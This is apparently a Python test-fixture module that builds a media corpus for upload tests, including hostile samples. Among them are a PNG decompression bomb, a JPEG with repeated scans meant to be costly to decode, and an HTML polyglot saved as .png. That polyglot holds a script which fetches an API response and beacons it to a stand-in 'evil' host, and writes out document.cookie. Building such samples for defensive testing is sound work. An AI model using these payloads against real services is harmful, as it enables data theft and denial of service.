"""The media test corpus, made by real encoders (Pillow, PyAV/FFmpeg, pypdf, wave) in about a second.

    write_corpus(directory) -> {file name: path}   # every sample, written once per test session
    SAMPLES[name]() -> bytes                        # one sample, in memory

Pictures carry marks the tests look for: a yellow top-left quadrant (to tell which way a picture was
turned), and in videos red frames before 1 s and blue frames from 1 s (to tell which frame became
the thumbnail). The hostile samples are what uploads go wrong with: truncated, mislabelled, empty,
encrypted, decompression bombs.
"""

from __future__ import annotations

import io
import math
import os
import re
import struct
import tempfile
import wave
import zlib
from collections.abc import Callable
from fractions import Fraction
from pathlib import Path

import av
from PIL import ExifTags, Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject

RED, GREEN, BLUE, YELLOW = (220, 30, 30), (30, 200, 30), (30, 30, 220), (250, 230, 20)


# Images


def picture(width: int, height: int, color: tuple[int, int, int] = BLUE, mode: str = "RGB") -> Image.Image:
    """A solid picture with a yellow top-left quadrant."""
    image = Image.new("RGB", (width, height), color)
    ImageDraw.Draw(image).rectangle((0, 0, width // 2 - 1, height // 2 - 1), fill=YELLOW)
    return image.convert(mode)


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def jpeg(width: int = 640, height: int = 480, orientation: int | None = None, **options: object) -> bytes:
    if orientation is not None:
        exif = Image.Exif()
        exif[ExifTags.Base.Orientation] = orientation
        options["exif"] = exif
    return encode(picture(width, height), "JPEG", quality=90, **options)


def png_rgba(width: int = 400, height: int = 300) -> bytes:
    """Left half fully transparent."""
    image = picture(width, height, mode="RGBA")
    image.paste((0, 0, 0, 0), (0, 0, width // 2, height))
    return encode(image, "PNG")


def animated(fmt: str, width: int, height: int) -> bytes:
    """Three frames: red, green, blue."""
    frames = [Image.new("RGB", (width, height), color) for color in (RED, GREEN, BLUE)]
    return encode(frames[0], fmt, save_all=True, append_images=frames[1:], duration=200, loop=0)


def png_bomb(side: int = 20_000) -> bytes:
    """A side×side 1-bit PNG of zero rows: 400 megapixels in a few tens of KB."""
    row = bytes(1 + (side + 7) // 8)  # filter byte + packed pixels
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg_of_length(width: int, height: int, length: int) -> bytes:
    """A width×height JPEG padded with a comment segment to exactly `length` bytes: what can be posted
    again with a presigned POST, which pins the size."""
    picture = jpeg(width, height)
    padding = length - len(picture) - 4
    if not 0 <= padding < 65_000:
        raise ValueError(f"a {width}×{height} JPEG cannot be padded to {length} bytes")
    return picture[:2] + b"\xff\xfe" + (padding + 2).to_bytes(2, "big") + bytes(padding) + picture[2:]


def jpeg_scans(side: int, repeats: int) -> bytes:
    """A progressive side×side JPEG whose last refinement scan is repeated: each copy costs a few
    bytes to send and a pass over the whole picture to decode."""
    progressive = encode(picture(side, side), "JPEG", progressive=True, quality=50)
    last_scan, end = progressive.rfind(b"\xff\xda"), progressive.rfind(b"\xff\xd9")
    return progressive[:last_scan] + progressive[last_scan:end] * repeats + progressive[end:]


# Video


# x265 prints its settings at every open; errors are still shown.
_QUIET_X265 = {"x265-params": "log-level=error"}


def video(
    width: int = 320,
    height: int = 240,
    seconds: float = 2.0,
    fps: int = 25,
    container: str = "mp4",
    rotation: int | None = None,
    faststart: bool = False,
    codec: str = "libx264",
    pix_fmt: str = "yuv420p",
    tag: str | None = None,
    sample_aspect_ratio: Fraction | None = None,
    frame_times: list[float] | None = None,
    options: dict[str, str] | None = None,
) -> bytes:
    """Red frames before 1 s, blue from 1 s, each with the yellow quadrant, in `codec` (H.264 unless
    said), its `tag` the container's sample entry (`hvc1`/`hev1` for HEVC). `rotation` is the display
    matrix's counterclockwise turn (a phone's portrait video is -90, its `rotate=90` tag).
    `frame_times` (seconds) replace the constant frame rate: variable timing on a 1/600 s clock
    (iPhone's). `options` go to the encoder."""
    muxer = {"movflags": "faststart"} if faststart else {}
    with tempfile.TemporaryDirectory() as directory:  # faststart rewrites the file: it needs a real one
        path = Path(directory) / f"video.{container}"
        with av.open(str(path), "w", format=container, options=muxer) as output:
            quiet = _QUIET_X265 if codec == "libx265" else {}
            stream = output.add_stream(codec, rate=fps, options={**quiet, **(options or {})})
            stream.width, stream.height, stream.pix_fmt = width, height, pix_fmt
            if tag is not None:
                stream.codec_tag = tag
            if sample_aspect_ratio is not None:
                stream.codec_context.sample_aspect_ratio = sample_aspect_ratio
            if rotation is not None:
                stream.set_display_rotation(rotation)
            if frame_times is not None:
                stream.codec_context.time_base = Fraction(1, 600)
            for at in frame_times or [index / fps for index in range(round(seconds * fps))]:
                frame = av.VideoFrame.from_image(picture(width, height, RED if at < 1.0 else BLUE))
                if frame_times is not None:
                    frame.pts, frame.time_base = round(at * 600), Fraction(1, 600)
                output.mux(stream.encode(frame))
            output.mux(stream.encode())
        return path.read_bytes()


def noise_video(megabytes: int = 40, width: int = 320, height: int = 240, fps: int = 25) -> bytes:
    """About `megabytes` of incompressible video (random pictures, x264's default 250-frame GOP,
    index at the end of the file): large but made in well under a second per 10 MB."""
    frames = []
    for _ in range(5):
        frame = av.VideoFrame(width, height, "yuv420p")
        for plane in frame.planes:
            plane.update(os.urandom(plane.buffer_size))
        frames.append(frame)
    out = io.BytesIO()
    with av.open(out, "w", format="mp4") as output:
        stream = output.add_stream("libx264", rate=fps, options={"preset": "ultrafast", "qp": "24"})
        stream.width, stream.height, stream.pix_fmt = width, height, "yuv420p"
        index = 0
        while out.tell() < megabytes * 1_000_000:
            frame = frames[index % len(frames)]
            frame.pts = index
            output.mux(stream.encode(frame))
            index += 1
        output.mux(stream.encode())
    return out.getvalue()


def boxes(data: bytes) -> list[tuple[bytes, int, int]]:
    """Top-level ISO-BMFF boxes as (type, start, end)."""
    found, start = [], 0
    while start + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[start : start + 8])
        if size == 1:
            size = struct.unpack(">Q", data[start + 8 : start + 16])[0]
        elif size == 0:
            size = len(data) - start
        found.append((kind, start, start + size))
        start += size
    return found


def without_box(data: bytes, kind: bytes) -> bytes:
    return b"".join(data[start:end] for box, start, end in boxes(data) if box != kind)


# Audio


def tone(seconds: float, rate: int) -> bytes:
    """A 440 Hz sine, 16-bit mono."""
    count = round(seconds * rate)
    return struct.pack(
        f"<{count}h", *(int(8000 * math.sin(2 * math.pi * 440 * i / rate)) for i in range(count))
    )


def mp3(seconds: float = 3.0, id3: bool = True, rate: int = 44_100) -> bytes:
    samples = tone(seconds, rate)
    out = io.BytesIO()
    options = {} if id3 else {"id3v2_version": "0", "write_xing": "0"}
    with av.open(out, "w", format="mp3", options=options) as output:
        stream = output.add_stream("libmp3lame", rate=rate, layout="mono")
        step = 1152  # samples in an MPEG-1 layer III frame
        for first in range(0, len(samples) // 2, step):
            chunk = samples[first * 2 : (first + step) * 2]
            frame = av.AudioFrame(format="s16", layout="mono", samples=len(chunk) // 2)
            frame.planes[0].update(chunk)
            frame.sample_rate, frame.pts = rate, first
            output.mux(stream.encode(frame))
        output.mux(stream.encode())
    return out.getvalue()


def wav(seconds: float = 2.5, rate: int = 8_000) -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as output:
        output.setnchannels(1)
        output.setsampwidth(2)
        output.setframerate(rate)
        output.writeframes(tone(seconds, rate))
    return out.getvalue()


# Documents


def pdf(pages: int = 3, user_password: str | None = None, owner_password: str | None = None) -> bytes:
    """US Letter pages, each with a dark blue rectangle (wider on each page)."""
    writer = PdfWriter()
    for number in range(pages):
        page = writer.add_blank_page(612, 792)
        content = DecodedStreamObject()
        content.set_data(b"0 0 0.6 rg 72 72 %d 400 re f" % (100 + 100 * number))
        page.replace_contents(content)
    if user_password is not None:
        writer.encrypt(user_password, owner_password, algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_objects(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct cross-reference table: for PDFs
    built by hand, object by object (the hostile corpus, the bombs)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def pdf_bad_xref() -> bytes:
    """Every cross-reference offset wrong: readers have to rebuild the table by scanning."""
    body, marker, table = pdf().rpartition(b"\nxref\n")
    return body + marker + re.sub(rb"\d{10} 00000 n", b"0000000007 00000 n", table)


def cut(data: bytes, fraction: float) -> bytes:
    return data[: int(len(data) * fraction)]


# An HTML page whose script would run if the object were ever served as HTML, uploaded as .png.
POLYGLOT = b"""<!DOCTYPE html><html><head><title>x</title></head><body>
<img src=x onerror="fetch('/api/v2/assets').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))">
<script>document.write(document.cookie)</script></body></html>
"""

SAMPLES: dict[str, Callable[[], bytes]] = {
    # allowed formats
    "photo.jpg": jpeg,
    "large.jpeg": lambda: jpeg(4000, 3000, progressive=True),
    "rotated.jpg": lambda: jpeg(640, 480, orientation=6),
    "cmyk.jpg": lambda: encode(picture(400, 300, mode="CMYK"), "JPEG"),
    "alpha.png": png_rgba,
    "animated.gif": lambda: animated("GIF", 480, 240),
    "animated.webp": lambda: animated("WEBP", 640, 320),
    "clip.mp4": video,
    "short.mp4": lambda: video(seconds=0.5, fps=24),
    "portrait.mp4": lambda: video(rotation=-90),
    "clip.mov": lambda: video(container="mov"),
    "tone.mp3": mp3,
    "bare.mp3": lambda: mp3(id3=False),
    "tone.wav": wav,
    "doc.pdf": pdf,
    "owner-only.pdf": lambda: pdf(user_password="", owner_password="owner"),
    "bad-xref.pdf": pdf_bad_xref,
    # hostile or broken
    "truncated.jpg": lambda: cut(jpeg(), 0.6),
    "truncated.mp4": lambda: cut(video(faststart=True), 0.6),
    "no-moov.mp4": lambda: without_box(video(), b"moov"),
    "truncated.pdf": lambda: cut(pdf(), 0.6),
    "encrypted.pdf": lambda: pdf(user_password="secret", owner_password="owner"),
    "text.png": lambda: b"Just some notes that are not a picture.\n" * 20,
    "polyglot.png": lambda: POLYGLOT,
    "empty.jpg": lambda: b"",
    "bomb.png": png_bomb,
    # large, for reads by range
    "big.mp4": noise_video,
}


def write_corpus(directory: Path) -> dict[str, Path]:
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in SAMPLES.items():
        paths[name] = directory / name
        paths[name].write_bytes(make())
    return paths


if __name__ == "__main__":  # python -m tests.media.generate DIR: the corpus, to look at
    import sys

    for name, path in write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "media-corpus")).items():
        print(f"{path.stat().st_size:>10}  {name}")
